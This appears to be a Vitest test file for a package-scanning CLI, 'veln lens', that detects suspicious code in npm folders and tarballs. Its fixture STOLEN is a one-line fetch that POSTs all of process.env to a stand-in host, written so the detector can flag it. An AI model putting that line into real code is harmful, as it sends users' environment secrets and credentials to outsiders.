import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { capturedIo } from "../../test/support/io.ts";
import { temporaryFolder } from "../../test/support/store.ts";
import { packageTarball } from "../../test/support/tarball.ts";
import { RULES } from "../examine/lens/rules.ts";
import { runCli } from "./cli.ts";

const STOLEN = `fetch("https://a.invalid", { method: "POST", body: JSON.stringify(process.env) });\n`;

async function veln(files: Readonly<Record<string, string>>, ...args: readonly string[]) {
  const home = temporaryFolder();
  const folder = join(home, "subject");
  mkdirSync(folder);
  for (const [path, content] of Object.entries(files)) writeFileSync(join(folder, path), content);
  const io = capturedIo({ env: { HOME: home, NO_COLOR: "1" }, cwd: home });
  const code = await runCli(["--offline", "lens", ...args], io);
  return { code, printed: io.printed(), said: io.said() };
}

const MANIFEST = JSON.stringify({ name: "example", version: "1.0.0", main: "index.js" });

describe("veln lens", () => {
  it("tells what a folder's code does, and ends with 1 when it is grave", async () => {
    const files = { "package.json": MANIFEST, "index.js": STOLEN };
    const { code, printed, said } = await veln(files, "./subject");
    expect([code, said]).toEqual([1, ""]);
    expect(printed).toMatch(/^\.\/subject {2}2 files, read in /);
    expect(printed).toContain(
      "critical source-is-suspicious/sends-environment (high confidence)\n" +
        "    All variables of the environment are sent to a.invalid. It starts from the\n" +
        "    package's entry point.\n" +
        "    index.js:1:1\n",
    );
  });

  it("gives one JSON document", async () => {
    const files = { "package.json": MANIFEST, "index.js": STOLEN };
    const { code, printed, said } = await veln(files, "./subject", "--json");
    expect([code, said]).toEqual([1, ""]);
    expect(JSON.parse(printed)).toEqual({
      files: 2,
      findings: [
        {
          id: "source-is-suspicious/sends-environment",
          signal: "source-is-suspicious",
          severity: "critical",
          confidence: "high",
          message:
            "All variables of the environment are sent to a.invalid. It starts from the package's entry point.",
          file: "index.js",
          line: 1,
          column: 1,
          excerpt: STOLEN.slice(0, 60),
        },
      ],
      unknown: [],
      elapsedMs: expect.any(Number),
    });
  });

  it("says that nothing was found, and what is not known", async () => {
    const clean = await veln(
      { "package.json": MANIFEST, "index.js": "exports.a = 1;\n" },
      "./subject",
    );
    expect([clean.code, clean.printed.split("\n")[1]]).toEqual([
      0,
      "Nothing that Lens looks for was found.",
    ]);
    const broken = await veln({ "package.json": MANIFEST, "index.js": "fetch( = ;" }, "./subject");
    expect([broken.code, broken.printed.split("\n").slice(1, 3)]).toEqual([
      0,
      [
        "Not known, which is not the same as clear",
        "  index.js: the code is in no dialect that can be parsed",
      ],
    ]);
  });

  it("tells beside what was found what could not be read", async () => {
    const files = { "package.json": MANIFEST, "index.js": STOLEN, "other.js": "fetch( = ;" };
    const why = "other.js: the code is in no dialect that can be parsed";
    const { code, printed } = await veln(files, "./subject", "--json");
    expect(code).toBe(1);
    expect(JSON.parse(printed)).toMatchObject({
      findings: [{ id: "source-is-suspicious/sends-environment" }],
      unknown: [{ signal: "source-is-suspicious", why }],
    });
    const page = (await veln(files, "./subject")).printed;
    expect(page).toContain(`Not known, which is not the same as clear\n  ${why}\n`);
  });

  it("reads a tarball", async () => {
    const home = temporaryFolder();
    const bytes = packageTarball([
      { path: "package.json", content: MANIFEST },
      { path: "index.js", content: STOLEN },
    ]);
    writeFileSync(join(home, "a.tgz"), bytes);
    const io = capturedIo({ env: { HOME: home }, cwd: home });
    expect(await runCli(["--offline", "lens", "--json", "./a.tgz"], io)).toBe(1);
    expect(io.printed()).toContain("source-is-suspicious/sends-environment");
  });

  it.each(RULES)("explains $id by the rule's own texts", async ({ id, title, example }) => {
    const { code, printed } = await veln({}, "--explain", `source-is-suspicious/${id}`);
    expect([code, printed.split("\n")[0]]).toEqual([0, `${title} (${id})`]);
    expect(printed).toContain(`  ${example.split("\n")[0] ?? ""}\n`);
  });

  it("lists its rules", async () => {
    const { code, printed } = await veln({}, "--rules");
    expect([code, printed.trimEnd().split("\n").length]).toEqual([0, RULES.length]);
  });

  it.each([
    ["nothing", []],
    ["two packages", ["a", "b"]],
    ["an unknown rule", ["--explain", "no-such-rule"]],
    ["a folder that is not there", ["./missing"]],
    ["a folder without a manifest", ["./subject"]],
  ])("refuses %s with a sentence", async (_what, args) => {
    const { code, printed, said } = await veln({}, ...args);
    expect([code, printed]).toEqual([2, ""]);
    expect(said).toMatch(/^veln: .+\.\n/);
  });
});
